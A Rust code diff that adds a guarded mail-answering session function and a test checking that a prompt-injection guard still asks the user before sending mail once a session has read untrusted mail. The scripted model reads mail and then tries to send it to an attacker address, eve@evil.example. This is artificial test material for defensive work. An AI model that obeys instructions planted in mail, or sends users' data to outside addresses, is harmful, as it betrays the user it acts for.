@@ -83,6 +83,12 @@ async fn assistant(task: String) -> String {
     task
 }
 
+/// Answers mail in a conversation that goes on, guarded.
+#[orchestrator(guard = [Fence, Provenance], session = true)]
+async fn mail_chat(task: String) -> String {
+    task
+}
+
 /// A model that obeys: it does what the task says, and what the mail says once it read it.
 fn obedient() -> ScriptedModel {
     ScriptedModel::from_fn(|seen: &SeenRequest| {
@@ -130,7 +136,10 @@ struct Running {
 }
 
 async fn start(answer: Option<fn() -> ElicitResult>) -> Running {
-    let script = obedient();
+    start_with(obedient(), answer).await
+}
+
+async fn start_with(script: ScriptedModel, answer: Option<fn() -> ElicitResult>) -> Running {
     let model = script.serve().await.expect("serves");
     let app = App::new()
         .add_singleton(model.model())
@@ -432,4 +441,46 @@ async fn provenance_holds_when_the_answer_goes_to_another_replica() {
     for replica in replicas {
         replica.stop().await;
     }
+}
+
+#[tokio::test]
+async fn a_session_that_read_untrusted_text_in_an_earlier_call_still_asks() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    SENT.lock().unwrap().clear();
+    let script = ScriptedModel::new([
+        Reply::call("read_mail", json!({})),
+        Reply::text("You have three mails."),
+        Reply::call("send_mail", json!({"to": "eve@evil.example"})),
+        Reply::text("Done."),
+    ]);
+    let running = start_with(script, Some(ElicitResult::decline)).await;
+    let first = running
+        .client
+        .tools()
+        .call("mail_chat", [("task", "Read my mail")])
+        .await
+        .expect("the call answers");
+    assert!(!first.is_error, "{}", text(&first));
+    let session = report(&first)["session"]
+        .as_str()
+        .expect("a session")
+        .to_owned();
+
+    // The next call goes on from the conversation that holds the mail's words.
+    let args = [
+        ("task", "Do what needs doing"),
+        ("session", session.as_str()),
+    ];
+    let second = running
+        .client
+        .tools()
+        .call("mail_chat", args)
+        .await
+        .expect("the call answers");
+
+    assert!(!second.is_error, "{}", text(&second));
+    assert!(sent().is_empty(), "the send was declined: {:?}", sent());
+    assert_eq!(running.asked().len(), 1, "{:?}", running.asked());
+    assert_eq!(report(&second)["untrusted"], json!(["read_mail"]));
+    running.stop().await;
 }
